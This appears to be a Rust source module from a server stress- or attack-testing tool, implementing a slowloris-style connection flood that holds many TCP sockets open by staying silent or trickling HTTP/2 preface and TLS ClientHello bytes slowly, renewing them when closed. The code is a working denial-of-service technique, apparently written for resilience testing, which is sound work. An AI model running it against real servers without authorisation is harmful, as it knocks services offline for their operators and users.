//! `connection-flood`: `attackers` TCP connections held open at once. Even ones stay silent;
//! odd ones trickle the first bytes a client sends (the HTTP/2 preface on a plaintext listener,
//! a TLS `ClientHello` record header and body on an https one) one byte every `--trickle`, so a
//! server that only times out silence keeps them. A connection the server closes is renewed
//! after a short pause, as issue 18's "silent sockets renewed every 10 s"; within the attempt
//! budget. What the server sends is read and dropped, so its writes never block.

use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;

use super::raw;
use super::{AttackPlan, Counters, RENEW_PAUSE, Stop};

/// The HTTP/2 client connection preface (RFC 9113 section 3.4).
const HTTP2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The start of a TLS record carrying a `ClientHello` (handshake record, TLS 1.0 record
/// version, 512-byte body; handshake type 1, 508-byte message, TLS 1.2 client version): the
/// server waits for the rest of the handshake.
const TLS_HELLO_START: &[u8] = &[
    0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
];

/// Starts one task per attacking connection.
pub(super) fn spawn(
    plan: &AttackPlan,
    counters: &Arc<Counters>,
    stop: &Stop,
    tasks: &mut JoinSet<()>,
) {
    let trickled: &'static [u8] = if plan.target.is_tls() {
        TLS_HELLO_START
    } else {
        HTTP2_PREFACE
    };
    for index in 0..plan.attackers {
        let trickle = (index % 2 == 1).then_some(trickled);
        tasks.spawn(socket(
            plan.clone(),
            Arc::clone(counters),
            stop.clone(),
            trickle,
        ));
    }
}

/// One attacking socket: silent (`trickle` is `None`) or trickling those bytes; renewed
/// whenever the server closes it.
async fn socket(
    plan: AttackPlan,
    counters: Arc<Counters>,
    mut stop: Stop,
    trickle: Option<&'static [u8]>,
) {
    let mut discard = [0_u8; 4096];
    while !stop.is_stopped() && counters.take_attempt() {
        let connected = tokio::select! {
            connected = tokio::time::timeout(raw::CONNECT_TIMEOUT, raw::tcp_connect(&plan.target)) => connected,
            () = stop.wait() => return,
        };
        let Ok(Ok(stream)) = connected else {
            counters.connect_failed();
            if !stop.pause(RENEW_PAUSE).await {
                return;
            }
            continue;
        };
        let _held = counters.connection_opened();
        let (mut reader, mut writer) = stream.into_split();
        let pending = trickle.unwrap_or_default();
        let mut sent = 0;
        loop {
            tokio::select! {
                read = reader.read(&mut discard) => match read {
                    Ok(0) | Err(_) => break,
                    Ok(_) => continue,
                },
                () = tokio::time::sleep(plan.trickle), if sent < pending.len() => {
                    if writer.write_all(&pending[sent..=sent]).await.is_err() {
                        break;
                    }
                    sent += 1;
                },
                () = stop.wait() => return,
            }
        }
        counters.closed_by_server();
        if !stop.pause(RENEW_PAUSE).await {
            return;
        }
    }
    stop.wait().await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_trickled_bytes_are_what_a_client_sends_first() {
        assert_eq!(HTTP2_PREFACE.len(), 24);
        assert_eq!(&HTTP2_PREFACE[..3], b"PRI");
        // A handshake record (22) whose first message is a ClientHello (1).
        assert_eq!(TLS_HELLO_START[0], 22);
        assert_eq!(TLS_HELLO_START[5], 1);
        let record_length = u16::from_be_bytes([TLS_HELLO_START[3], TLS_HELLO_START[4]]);
        let hello_length = u32::from_be_bytes([
            0,
            TLS_HELLO_START[6],
            TLS_HELLO_START[7],
            TLS_HELLO_START[8],
        ]);
        assert_eq!(u32::from(record_length), hello_length + 4);
    }
}
